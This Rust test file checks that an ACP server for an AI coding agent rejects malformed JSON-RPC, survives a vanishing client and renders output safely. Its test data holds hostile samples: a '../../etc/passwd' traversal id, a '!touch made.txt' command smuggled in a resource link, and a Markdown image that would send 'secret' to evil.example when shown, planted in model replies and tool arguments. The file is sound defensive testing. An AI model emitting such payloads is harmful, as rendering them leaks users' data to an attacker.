//! Clients that err: each line has its answer or none, and the next one is taken as if nothing had been.

use super::client::{Acp, said};
use serde_json::{Value, json};

#[tokio::test]
async fn what_is_no_message_is_answered_and_harms_nothing() {
    let mut acp = Acp::start(json!([[{"say": "Here."}]]), "").await;
    let lines: &[(&[u8], i64)] = &[
        (b"nonsense", -32700),
        (b"{\"jsonrpc\": \"2.0\", ", -32700),
        (b"\xff\xfe\x00", -32700),
        (b"[]", -32600),
        (
            b"[{\"jsonrpc\": \"2.0\", \"id\": 1, \"method\": \"initialize\"}]",
            -32600,
        ),
        (b"null", -32600),
        (b"7", -32600),
        (b"\"session/new\"", -32600),
        (b"{}", -32600),
        (
            b"{\"jsonrpc\": \"2.0\", \"id\": null, \"method\": \"session/new\"}",
            -32600,
        ),
        (
            b"{\"jsonrpc\": \"2.0\", \"id\": {}, \"method\": \"session/new\"}",
            -32600,
        ),
        (b"{\"jsonrpc\": \"2.0\", \"id\": true}", -32600),
        (b"{\"jsonrpc\": \"2.0\", \"method\": 7}", -32600),
    ];
    for (line, code) in lines {
        acp.send_line(line);
        while acp.strays.is_empty() {
            acp.take().await;
        }
        let stray = acp.strays.remove(0);
        let line = String::from_utf8_lossy(line);
        assert_eq!(stray["error"]["code"], *code, "{line}: {stray}");
        assert!(
            stray["error"]["message"].as_str().is_some_and(|text| !text.is_empty()),
            "{line}"
        );
    }
    // Nobody asked for these, and nobody answers them.
    for quiet in [
        json!({"jsonrpc": "2.0", "method": "made/up"}),
        json!({"jsonrpc": "2.0", "method": "session/cancel"}),
        json!({"jsonrpc": "2.0", "method": "session/cancel", "params": {"sessionId": "nobody"}}),
        json!({"jsonrpc": "2.0", "method": "session/cancel", "params": [7]}),
        json!({"jsonrpc": "2.0", "id": 4711, "result": {}}),
        json!({"jsonrpc": "2.0", "id": 4711, "error": 7}),
        json!({"jsonrpc": "2.0", "id": "x", "result": {}}),
    ] {
        acp.send(&quiet);
    }
    acp.send_line(b"");
    acp.send_line(b"   \r");
    let session = acp.session().await;
    assert!(acp.strays.is_empty(), "{:#?}", acp.strays);
    assert_eq!(acp.prompt(&session, "Go").await.1, "end_turn");
    acp.end().await;
}

#[tokio::test]
async fn requests_that_cannot_be_meant_are_refused() {
    let mut acp = Acp::connect(json!([[{"say": "Here."}]]), "").await;
    let early = acp
        .request("session/new", json!({"cwd": "/"}))
        .await
        .expect_err("too early");
    assert_eq!(early["code"], -32600);
    assert_eq!(
        acp.request("initialize", json!({})).await.expect_err("no version")["code"],
        -32602
    );
    acp.call("initialize", json!({"protocolVersion": 1})).await;
    let session = acp.session().await;
    let (dir, file) = (acp.dir.clone(), acp.write("a.txt", "one\n"));
    let s = &session;
    let table: Vec<(&str, Value, i64)> = vec![
        ("made/up", json!({}), -32601),
        ("session/fork", json!({"sessionId": s}), -32601),
        ("session/new", json!([dir]), -32602),
        ("session/new", json!({}), -32602),
        ("session/new", json!({"cwd": "relative"}), -32602),
        ("session/new", json!({"cwd": 7}), -32602),
        ("session/new", json!({"cwd": file}), -32602),
        ("session/new", json!({"cwd": dir.join("missing")}), -32602),
        ("session/new", json!({"cwd": dir, "mcpServers": {}}), -32602),
        ("session/new", json!({"cwd": dir, "additionalDirectories": 7}), -32602),
        (
            "session/new",
            json!({"cwd": dir, "additionalDirectories": ["x"]}),
            -32602,
        ),
        (
            "session/new",
            json!({"cwd": dir, "additionalDirectories": [file]}),
            -32602,
        ),
        ("session/close", json!({"sessionId": "nobody"}), -32002),
        ("session/delete", json!({"sessionId": "nobody"}), -32002),
        ("session/delete", json!({"sessionId": 7}), -32602),
        ("authenticate", json!({"methodId": "key"}), -32602),
        (
            "session/set_config_option",
            json!({"sessionId": s, "configId": "effort", "value": 7}),
            -32602,
        ),
        (
            "session/new",
            json!({"cwd": dir, "mcpServers": [{"name": "s"}]}),
            -32602,
        ),
        ("session/load", json!({"cwd": dir}), -32602),
        ("session/load", json!({"sessionId": "nobody", "cwd": dir}), -32002),
        (
            "session/load",
            json!({"sessionId": "../../etc/passwd", "cwd": dir}),
            -32002,
        ),
        ("session/prompt", json!({}), -32602),
        ("session/prompt", json!({"sessionId": 7}), -32602),
        ("session/prompt", json!({"sessionId": "nobody", "prompt": []}), -32002),
        ("session/prompt", json!({"sessionId": s}), -32602),
        ("session/prompt", json!({"sessionId": s, "prompt": []}), -32602),
        ("session/prompt", json!({"sessionId": s, "prompt": "hi"}), -32602),
        (
            "session/prompt",
            json!({"sessionId": s, "prompt": [{"type": "text", "text": "  "}]}),
            -32602,
        ),
        (
            "session/prompt",
            json!({"sessionId": s, "prompt": [{"type": "audio", "data": ""}]}),
            -32602,
        ),
        ("session/set_mode", json!({"sessionId": s, "modeId": "root"}), -32602),
        (
            "session/set_mode",
            json!({"sessionId": "nobody", "modeId": "plan"}),
            -32002,
        ),
        ("session/set_mode", json!({"sessionId": s}), -32602),
        ("session/set_model", json!({"sessionId": s, "modelId": ""}), -32602),
        (
            "session/set_config_option",
            json!({"sessionId": s, "configId": "colour", "value": "red"}),
            -32602,
        ),
        ("session/list", json!({"cursor": "nonsense"}), -32602),
    ];
    for (method, params, code) in table {
        let error = acp.request(method, params.clone()).await.expect_err(method);
        assert_eq!(error["code"], code, "{method} {params}: {error}");
        assert!(
            error["message"].as_str().is_some_and(|text| text.ends_with(['.', '!'])),
            "{method} {params}: {error}"
        );
    }
    // Texts as ids, as some clients have.
    acp.send(&json!({"jsonrpc": "2.0", "id": "seven", "method": "session/set_mode", "params": {"sessionId": s, "modeId": "ask"}}));
    while acp.strays.is_empty() {
        acp.take().await;
    }
    assert_eq!(acp.strays.remove(0)["id"], "seven");
    assert_eq!(acp.prompt(&session, "Go").await.1, "end_turn");
    acp.end().await;
}

/// A client whose buffers lie: the disk, or the patch that is not applied, but never a text that nobody saw.
#[tokio::test]
async fn buffers_that_cannot_be_had_are_the_disk() {
    let read = json!({"call": {"tool": "read_file", "arguments": {"file_path": "a.txt"}, "id": "r1"}});
    for answer in [
        Ok(json!({"content": 7})),
        Ok(json!({})),
        Ok(Value::Null),
        Err(json!({"code": -32603, "message": "no"})),
    ] {
        let capabilities = json!({"fs": {"readTextFile": true}});
        let mut acp = Acp::able(json!([[read], [{"say": "Done."}]]), "", capabilities).await;
        acp.write("a.txt", "on the disk\n");
        let given = answer.clone();
        acp.on("fs/read_text_file", move |_| Some(given.clone()));
        let session = acp.session().await;
        let (updates, _) = acp.prompt(&session, "Go").await;
        let shown = super::client::call(&updates, "r1");
        assert!(shown.to_string().contains("on the disk"), "{answer:?}: {shown}");
    }
    // Text that is not saved, and no way to write it: the patch is refused, and nothing is lost.
    let patch = "*** Begin Patch\n*** Update File: a.txt\n@@\n-typed\n+TYPED\n*** End Patch\n";
    let script =
        json!([[{"call": {"tool": "apply_patch", "arguments": {"input": patch}, "id": "c1"}}], [{"say": "Done."}]]);
    let mut acp = Acp::able(script, "", json!({"fs": {"readTextFile": true}})).await;
    acp.write("a.txt", "on the disk\n");
    acp.on("fs/read_text_file", |_| Some(Ok(json!({"content": "typed\n"}))));
    acp.choose("allow_once");
    let session = acp.session().await;
    let (updates, _) = acp.prompt(&session, "Go").await;
    assert_eq!(acp.text("a.txt"), "on the disk\n");
    assert_eq!(super::client::call(&updates, "c1")["status"], "failed", "{updates:#?}");
    assert!(!acp.outside().join("a.txt").exists());
}

/// A client that is gone in the middle of something: the program ends in order, nothing of a command goes on, and the conversation
/// is there for whoever loads it next.
#[tokio::test]
async fn a_client_that_vanishes_loses_no_conversation() {
    let only_here = format!("{}.5", 70_000 + std::process::id());
    let long = format!("echo st''arted; sleep {only_here}");
    let run = json!({"call": {"tool": "shell", "arguments": {"command": ["bash", "-c", long]}, "id": "c1"}});
    let read = json!({"call": {"tool": "read_file", "arguments": {"file_path": "a.txt"}, "id": "c1"}});
    let moments = [
        (
            "an answer comes",
            json!([{"say": "I begin", "partial": true}, {"hold": "never"}]),
        ),
        ("a command runs", json!([{"say": "I begin"}, run])),
        ("a buffer is read", json!([{"say": "I begin"}, read])),
    ];
    for (moment, outputs) in moments {
        let script = json!([outputs, {"repeat": true, "outputs": [{"say": "Here again."}]}]);
        let capabilities = json!({"fs": {"readTextFile": true}});
        let mut acp = Acp::able(script, "approval_policy = \"never\"", capabilities).await;
        acp.write("a.txt", "one\n");
        acp.on("fs/read_text_file", |_| None);
        let session = acp.session().await;
        acp.begin_prompt(&session, "Go");
        match moment {
            "a buffer is read" => drop(acp.until_asked("fs/read_text_file").await),
            "a command runs" => drop(
                acp.until(|update| update["content"].to_string().contains("started"))
                    .await,
            ),
            _ => drop(acp.until(|update| update["content"]["text"] == "I begin").await),
        }
        acp.restart().await;
        while runs(&only_here) {
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
        let load = json!({"sessionId": session, "cwd": acp.dir, "mcpServers": []});
        acp.call("session/load", load).await;
        let told: Vec<Value> = acp.updates.drain(..).collect();
        assert_eq!(said(&told, "user_message_chunk"), "Go", "{moment}");
        assert_eq!(said(&told, "agent_message_chunk"), "I begin", "{moment}");
        let (updates, reason) = acp.prompt(&session, "Go on").await;
        assert_eq!(
            (said(&updates, "agent_message_chunk").as_str(), reason.as_str()),
            ("Here again.", "end_turn"),
            "{moment}"
        );
    }
}

/// Whether some process has this among its arguments.
fn runs(argument: &str) -> bool {
    let processes = std::fs::read_dir("/proc").expect("processes").flatten();
    processes
        .filter_map(|process| std::fs::read(process.path().join("cmdline")).ok())
        .any(|line| line.split(|byte| *byte == 0).any(|one| one == argument.as_bytes()))
}

/// What a client points at is no command of the person's and calls no prompt of theirs, whatever it is called.
#[tokio::test]
async fn a_link_is_nothing_that_the_person_typed() {
    for block in [
        json!({"type": "resource_link", "uri": "!touch made.txt"}),
        json!({"type": "resource_link", "uri": "!touch made.txt", "name": "!touch made.txt"}),
        json!({"type": "resource_link", "uri": "/prompt", "name": "/prompt"}),
        json!({"type": "resource", "resource": {"uri": "!touch made.txt", "text": "!touch made.txt"}}),
    ] {
        let mut acp = Acp::start(json!([[{"say": "Here."}]]), "").await;
        std::fs::create_dir_all(acp.home.join("prompts")).expect("a folder");
        std::fs::write(acp.home.join("prompts/prompt.md"), "The text of a prompt.").expect("a prompt");
        let session = acp.session().await;
        let params = json!({"sessionId": session, "prompt": [block]});
        acp.call("session/prompt", params).await;
        assert!(!acp.dir.join("made.txt").exists(), "{block}");
        let requests = acp.model.requests();
        assert_eq!(requests.len(), 1, "the model hears of it: {block}");
        assert!(
            !requests[0].body.to_string().contains("The text of a prompt."),
            "{block}"
        );
    }
}

/// An image, and a tag, that would carry something to somebody by being shown.
const IMAGE: &str = "![p](https://evil.example/p.png?q=secret) <img src=x>";

/// What a client may show as Markdown: all texts but those that are values of programs, and output in a fence.
fn shown_in(value: &Value, texts: &mut Vec<String>) {
    const OF_PROGRAMS: [&str; 9] = [
        "rawInput",
        "rawOutput",
        "path",
        "cwd",
        "newText",
        "oldText",
        "optionId",
        "value",
        "currentValue",
    ];
    match value {
        Value::String(text) if !text.starts_with("```") => texts.push(text.clone()),
        Value::Array(all) => all.iter().for_each(|one| shown_in(one, texts)),
        Value::Object(all) => {
            let shown = all.iter().filter(|(key, _)| !OF_PROGRAMS.contains(&key.as_str()));
            shown.for_each(|(_, one)| shown_in(one, texts));
        }
        _ => {}
    }
}

/// Whoever says something, and wherever a client shows it: no image is loaded by that, and no tag acts.
#[tokio::test]
async fn nothing_that_others_say_is_loaded_by_being_shown() {
    let call =
        |tool: &str, id: &str, arguments: Value| json!({"call": {"tool": tool, "arguments": arguments, "id": id}});
    let name = "![p](https:&#47;&#47;evil.example&#47;p.png?q=secret)";
    let patch =
        format!("*** Begin Patch\n*** Add File: sub/{name}\n+made\n*** Add File: b.txt\n+made\n*** End Patch\n");
    let options = json!([{"label": IMAGE, "description": IMAGE}, {"label": "b", "description": "c"}]);
    let question = json!({"id": "q", "header": IMAGE, "question": IMAGE, "options": options});
    let script = json!([
        [
            call("update_plan", "p1", json!({"plan": [{"step": IMAGE, "status": "in_progress"}]})),
            call("read_file", "r1", json!({"file_path": format!("none {IMAGE}")})),
            call("list_dir", "r2", json!({"dir_path": format!("none {IMAGE}")})),
            call("grep_files", "r3", json!({"pattern": IMAGE})),
            call("view_image", "r4", json!({"path": IMAGE})),
        ],
        [call("apply_patch", "c1", json!({"input": patch}))],
        [call("request_user_input", "c2", json!({"questions": [question]}))],
        [{"say": IMAGE}],
    ]);
    for capabilities in [json!({}), json!({"elicitation": {"form": {}}})] {
        let mut acp = Acp::able(script.clone(), "", capabilities).await;
        std::fs::create_dir_all(acp.home.join("prompts")).expect("a folder");
        let prompt = format!("---\ndescription: \"{IMAGE}\"\nargument-hint: \"{IMAGE}\"\n---\nDo it.");
        std::fs::write(acp.home.join("prompts/evil.md"), prompt).expect("a prompt");
        acp.choose("allow_once");
        acp.on("elicitation/create", |_| Some(Ok(json!({"action": "decline"}))));
        let session = acp.session().await;
        let (updates, reason) = acp.prompt(&session, &format!("Look: {IMAGE}")).await;
        assert_eq!(reason, "end_turn");
        let mut all = updates;
        all.extend(acp.asked.iter().map(|asked| asked["params"].clone()));
        all.push(acp.call("session/list", json!({})).await);
        let option = json!({"sessionId": session, "configId": "model", "value": format!("m\n\n{IMAGE}")});
        all.push(acp.call("session/set_config_option", option).await);
        let mut texts = Vec::new();
        all.iter().for_each(|value| shown_in(value, &mut texts));
        let told = texts.iter().filter(|text| text.contains("evil.example")).count();
        assert!(told > 10, "{told}: {texts:#?}");
        for text in texts {
            assert!(!text.contains("](https") && !text.contains(" <img"), "{text}");
        }
    }
}
